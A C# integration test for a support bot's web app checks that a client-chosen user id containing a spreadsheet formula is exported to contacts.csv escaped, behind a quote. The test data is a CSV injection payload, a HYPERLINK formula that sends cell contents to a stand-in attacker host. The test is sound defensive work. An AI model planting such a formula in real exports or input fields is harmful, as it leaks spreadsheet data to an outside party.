using System.Net;
using System.Text.Json.Nodes;
using Microsoft.Extensions.DependencyInjection;
using SelfServiceBot.Costs.Ledger;
using SelfServiceBot.Web.Tests.DirectLine;
using SelfServiceBot.Web.Tests.Infrastructure;

namespace SelfServiceBot.Web.Tests.Costs;

/// <summary>A client-chosen Direct Line user id that is a formula reaches contacts.csv as text, end to end over real HTTP.</summary>
public class CsvInjectionTests
{
    private const string Formula = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click\")";

    [Fact]
    public async Task A_Direct_Line_user_id_that_is_a_formula_is_exported_behind_a_quote_in_contacts_csv()
    {
        using var app = new AppServer(new Dictionary<string, string?> { ["Costs:LedgerIntervalSeconds"] = "0" });
        using var client = new DirectLineTestClient(app);
        var generated = await client.GenerateTokenAsync(json: new JsonObject { ["user"] = new JsonObject { ["id"] = Formula } }.ToJsonString());
        var started = await client.SendAsync(HttpMethod.Post, "conversations", (string)generated["token"]!);
        Assert.Equal(HttpStatusCode.Created, started.StatusCode);
        var conversation = await DirectLineTestClient.ReadOkAsync(started);
        var (conversationId, token) = ((string)conversation["conversationId"]!, (string)conversation["token"]!);
        var id = await client.PostMessageAsync(conversationId, token, "How do I track my order?");
        await client.PollUntilAsync(conversationId, token, seen => seen.Any(a => DirectLineTestClient.IsBotReplyTo(a, id)));
        var ledger = app.Services.GetRequiredService<ContactLedger>();
        while (await ledger.ApplyNextBatchAsync(default) > 0) { }
        await ledger.CloseIdleAsync(DateTimeOffset.UtcNow.AddMinutes(31), default);

        var (from, to) = CostsApiTests.LastMonth();
        var manager = await StaffSessions.ApiClientAsync(app, "Manager");
        var csv = await manager.GetStringAsync($"/api/costs/contacts.csv?from={from}&to={to}");

        var row = Assert.Single(csv.Split('\n', StringSplitOptions.RemoveEmptyEntries | StringSplitOptions.TrimEntries).Skip(1));
        // The cell as a spreadsheet reads it: quoted (the formula has commas and quotes), and inside the quotes a leading '.
        Assert.StartsWith("\"'=HYPERLINK(", row.Split(',', 3)[1]);
        Assert.DoesNotContain(",=HYPERLINK", row);
        Assert.DoesNotContain(",\"=HYPERLINK", row);
    }
}
